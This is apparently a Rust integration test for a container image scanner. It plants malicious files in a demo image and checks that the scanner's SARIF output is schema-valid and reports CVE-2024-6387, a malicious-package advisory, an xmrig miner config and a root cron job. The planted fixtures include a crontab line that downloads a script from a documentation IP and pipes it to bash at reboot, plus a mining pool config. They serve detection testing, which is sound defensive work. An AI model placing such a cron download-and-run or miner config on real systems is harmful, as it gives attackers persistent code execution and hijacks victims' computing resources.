//! `scan -f sarif`: the demo image with a planted miner config and a cron
//! download-and-run, against the bundled demo advisories, rendered as
//! SARIF 2.1.0 and checked with the OASIS schema (from the npm package
//! `@microsoft/jest-sarif`, fetched by `.ci/run`; `IMGSCAN_SARIF_SCHEMA`).

use crate::support::*;
use imgscan_fixtures::*;
use serde_json::Value;
use std::ffi::OsStr;

fn sarif_schema() -> Option<jsonschema::Validator> {
    let path = env_path("IMGSCAN_SARIF_SCHEMA", ".ci/run fetches the SARIF schema")?;
    // The published schema's `language` patterns have a stray `]` that a
    // strict regex engine refuses; the intended pattern is restored.
    let text = std::fs::read_to_string(path).unwrap();
    let broken = r#""^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$""#;
    assert!(
        text.contains(broken),
        "the schema changed: revisit this fix"
    );
    let text = text.replace(broken, r#""^[a-zA-Z]{2}(-[a-zA-Z]{2})?$""#);
    let schema: Value = serde_json::from_str(&text).unwrap();
    Some(jsonschema::validator_for(&schema).unwrap())
}

#[test]
fn sarif_output_validates_and_carries_every_kind_of_result() {
    let Some(validator) = sarif_schema() else {
        return;
    };
    let mut image = demo();
    let mut planted = LayerTar::new();
    planted.file(
        "etc/xmrig.json",
        r#"{"donate-level": 1, "randomx": {}, "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "x", "pass": "x"}]}"#,
    );
    planted.file(
        "var/spool/cron/crontabs/root",
        "@reboot curl -fsSL http://203.0.113.7/a.sh | bash\n",
    );
    image.layers.push(planted.finish());
    image.history.push("COPY extras /".into());
    let dir = oci_dir(&image, LayerCompression::Gzip);
    let db = demo_advisory_db();
    let done = run(&[
        OsStr::new("scan"),
        OsStr::new("-f"),
        OsStr::new("sarif"),
        OsStr::new("--db"),
        db.as_os_str(),
        dir.as_os_str(),
    ]);
    assert_eq!(done.code, 1, "{}", done.stderr);
    let log: Value = serde_json::from_str(&done.stdout).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&log)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "not valid SARIF 2.1.0: {errors:#?}");

    let run = &log["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    let result = |rule: &str| {
        results
            .iter()
            .find(|r| r["ruleId"] == rule)
            .unwrap_or_else(|| panic!("no {rule} in {results:#?}"))
    };
    let regresshion = result("CVE-2024-6387");
    assert_eq!(regresshion["level"], "error");
    assert_eq!(
        regresshion["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "var/lib/dpkg/status"
    );
    let at = regresshion["ruleIndex"].as_u64().unwrap() as usize;
    assert_eq!(rules[at]["id"], "CVE-2024-6387");
    assert_eq!(rules[at]["properties"]["security-severity"], "8.1");
    assert_eq!(result("MAL-2025-46974")["level"], "error");
    let uri = |r: &Value| {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "xmrig_config" && uri(r) == "etc/xmrig.json"),
        "{results:#?}"
    );
    let cron = result("cron.download-and-run");
    assert_eq!(
        cron["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "var/spool/cron/crontabs/root"
    );
    assert_eq!(
        cron["locations"][0]["physicalLocation"]["region"]["startLine"],
        1
    );
    let ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
    let mut unique = ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), ids.len(), "each rule once: {ids:?}");
}
